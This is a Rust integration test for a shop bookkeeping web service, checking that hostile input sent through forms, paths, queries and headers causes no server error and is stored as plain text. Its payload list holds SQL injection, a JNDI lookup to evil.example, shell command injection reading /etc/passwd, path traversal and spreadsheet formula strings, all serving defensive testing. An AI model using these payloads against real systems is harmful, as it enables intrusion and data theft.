//! What people and programs write, where a database, a shell or a page might take it for more than text: in every input, it is
//! no server error, and it comes back as it was.

use domain::books::Role;
use reqwest::{Client, RequestBuilder, StatusCode, redirect::Policy};
use serde_json::json;
use store::contract::Fixture;

use crate::{
    joining::{page, people},
    people::{PASSWORD, location, person, session},
    support::{Daybook, SHOP, answer, on_every_store},
};

on_every_store!(what_is_written_is_text_in_every_input_and_nothing_else);

const PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE event; --",
    "\"; DELETE FROM event; --",
    "1; SELECT pg_sleep(10)",
    "') UNION SELECT login, password FROM person --",
    "$1 ? ?1 :name @p",
    "\\'; \\x00 %00 %27",
    "$$; DROP TABLE event; $$",
    "/* */ -- #",
    "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %>",
    "$(touch /tmp/x) `id` | cat /etc/passwd; &&",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "NEAR(\"a\" \"b\") AND * OR NOT ^",
    "\u{202e}evil\u{2028}line",
    "%s%n%x NULL null undefined NaN 1e999",
];

/// What no text has in it.
const INVISIBLE: &str = "a\0b\u{7f}c\r\nd";

/// Forms that are no commands, or not only.
const FORMS: &[(&str, &[&str])] = &[
    ("/session", &["login", "password", "next"]),
    ("/join", &["code", "login"]),
    ("/start", &["title", "currency", "login", "password"]),
    ("/shops/leave", &["shop"]),
    ("/reset", &["code", "password"]),
    ("/session/password", &["current", "password"]),
    ("/session/elsewhere", &["session"]),
    ("/s/test/people", &["do", "login", "role", "invite"]),
    ("/s/test/commands", &["type", "sku"]),
];

async fn fine(what: &str, request: RequestBuilder) -> String {
    let answered = request.send().await.unwrap();
    let status = answered.status();
    let text = answered.text().await.unwrap();
    assert!(!status.is_server_error(), "{what}: {status} {text}");
    text
}

async fn what_is_written_is_text_in_every_input_and_nothing_else(fixture: Fixture) {
    let daybook = Daybook::configured(&fixture.store, |config| config.views = vec!["search".to_owned()]).await;
    daybook.receive("B", "A", 1_000).await;
    for (number, payload) in PAYLOADS.iter().enumerate() {
        in_books(&daybook, number, payload).await;
        in_addresses_and_heads(&daybook, payload).await;
    }
    in_addresses_and_heads(&daybook, INVISIBLE).await;
    for field in ["name", "description", "category"] {
        let mut data = json!({"sku": "A", "name": "x", "price": 1});
        data[field] = INVISIBLE.into();
        assert_eq!(daybook.command("product.add", data).await.status(), StatusCode::BAD_REQUEST, "{field}");
    }
    let events = daybook.head().await;
    assert!(events > PAYLOADS.len() as u64 * 4);
    let shop = domain::ShopSlug::parse(SHOP).unwrap();
    assert_eq!(fixture.store.verify(&shop).await.unwrap().unwrap().first_bad, None);

    person(&*fixture.store, "asha", SHOP, Role::Owner).await;
    let owner = session(&daybook, "asha").await;
    let access = &daybook.running.as_ref().unwrap().server.access;
    for payload in PAYLOADS.iter().chain(&[INVISIBLE]) {
        for (path, fields) in FORMS {
            for field in *fields {
                let post = daybook.client.post(format!("{}{path}", daybook.origin)).form(&[(field, payload)]);
                fine(path, post.header("cookie", &owner)).await;
            }
        }
    }
    // All that was wrong at the door until now makes this address wait.
    let elsewhere = Client::builder().redirect(Policy::none()).local_address("127.0.0.2".parse().ok()).build().unwrap();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let code = access.invite(&shop, Role::Seller).await.unwrap().text();
        let login = format!("person-{number}");
        let form = [("code", code.as_str()), ("login", &login), ("name", payload), ("password", PASSWORD)];
        let joined = elsewhere.post(format!("{}/join", daybook.origin)).form(&form).send().await.unwrap();
        assert_eq!(location(&joined), "/s/test", "{payload}");
        let access = fixture.store.access();
        let kept = access.person_of(&store::access::Login::parse(&login).unwrap()).await.unwrap().unwrap();
        assert_eq!(kept.name, *payload);
        let odd = people(&daybook, &owner, &[("do", "role"), ("login", payload), ("role", "reader")]).await;
        assert_eq!(location(&odd), "/s/test/people?problem=member");
    }
    assert_eq!(page(&daybook, "/s/test/people", &owner).await.0, StatusCode::OK);
    assert_eq!(fixture.store.verify(&shop).await.unwrap().unwrap().first_bad, None);
}

/// In every text that a shop keeps; each comes back as it was.
async fn in_books(daybook: &Daybook, number: usize, payload: &str) {
    let sku = format!("S{number}");
    for (command_type, data, path, fields) in [
        (
            "product.add",
            json!({"sku": sku, "name": payload, "description": payload, "category": payload, "price": 1}),
            format!("/products/{sku}"),
            &["name", "description", "category"][..],
        ),
        (
            "account.open",
            json!({"account_id": sku, "title": payload, "owner": payload, "initial_balance": 5}),
            format!("/accounts/{sku}"),
            &["title", "owner"],
        ),
    ] {
        let (status, said) = answer(daybook.command(command_type, data).await).await;
        assert_eq!(status, StatusCode::OK, "{command_type} {payload}: {said}");
        let shown = daybook.json(&path).await;
        for field in fields {
            assert_eq!(shown[field], payload, "{command_type} {field}");
        }
    }
    let credit = json!({"account_id": sku, "amount": 5, "reference": payload});
    assert_eq!(answer(daybook.command("account.credit", credit).await).await.0, StatusCode::OK, "{payload}");
    let damage = json!({"batchref": "B", "qty": 1, "reason": payload});
    assert_eq!(answer(daybook.command("stock.damage", damage).await).await.0, StatusCode::OK, "{payload}");
    let log = daybook.json(&format!("/events?after={}&limit=1000", daybook.head().await - 2)).await.to_string();
    assert_eq!(log.matches(&serde_json::to_string(payload).unwrap()).count(), 2, "{payload}: {log}");
    // Names of records and devices have a form of their own; what does not fit is told so.
    for (command_type, data) in [
        ("product.add", json!({"sku": payload, "name": "x", "price": 1})),
        ("stock.receive", json!({"batchref": payload, "sku": payload, "qty": 1})),
        ("order.place", json!({"order_id": payload, "lines": [{"sku": payload, "qty": 1}], "account": payload})),
        (
            "sale.record",
            json!({"sale_id": payload, "lines": [{"sku": payload, "qty": 1, "price": 1}], "payment": payload}),
        ),
        ("transfer.request", json!({"transfer_id": payload, "from": payload, "to": payload, "amount": 1})),
        ("comment.add", json!({"comment_id": payload, "picture_id": payload, "text": payload})),
        (payload, json!({payload: payload})),
    ] {
        let body = json!({"type": command_type, "data": data, "device": payload});
        fine(command_type, daybook.post(&body)).await;
        fine(command_type, daybook.post(&body).header("prefer", "respond-async").header("idempotency-key", "k")).await;
    }
}

async fn in_addresses_and_heads(daybook: &Daybook, payload: &str) {
    let escaped: String = payload.bytes().map(|byte| format!("%{byte:02x}")).collect();
    for path in [
        "products",
        "batches",
        "stock",
        "categories",
        "orders",
        "accounts",
        "transfers",
        "pictures",
        "comments",
        "history",
        "blobs",
        "commands",
        "schemas",
    ] {
        fine(path, daybook.get(&format!("/{path}/{escaped}"))).await;
    }
    for query in [
        "/products?q=",
        "/search?q=",
        "/events?after=",
        "/events?limit=",
        "/digest?as_of=",
        "/products?min_position=",
        "/feed?wait=0&after=",
        "/orders?next=",
        "/products?category=",
    ] {
        fine(query, daybook.get(&format!("{query}{escaped}")).header("accept", "application/json")).await;
    }
    for page in ["products", "orders", "history", "why", "book", "accounts", "reports", "products?q=x&as_of="] {
        let address = format!("{}/s/test/{page}{}{escaped}", daybook.origin, if page.contains('?') { "" } else { "/" });
        fine(page, daybook.client.get(address).header("accept", "text/html")).await;
    }
    for address in [
        format!("/s/{escaped}"),
        format!("/join/{escaped}"),
        format!("/reset/{escaped}"),
        format!("/sign-in?next={escaped}"),
        format!("/api/v1/shops/{escaped}/digest"),
    ] {
        fine(&address, daybook.client.get(format!("{}{address}", daybook.origin)).header("accept", "text/html")).await;
    }
    if let Ok(value) = reqwest::header::HeaderValue::from_bytes(payload.as_bytes()) {
        for name in [
            "last-event-id",
            "if-none-match",
            "authorization",
            "cookie",
            "accept-language",
            "daybook-min-position",
            "user-agent",
        ] {
            fine(name, daybook.get("/feed?wait=0").header("accept", "application/json").header(name, value.clone()))
                .await;
        }
        let session =
            reqwest::header::HeaderValue::from_bytes(format!("daybook_session={payload}").as_bytes()).unwrap();
        fine("cookie", daybook.get("/digest").header("cookie", session)).await;
    }
}
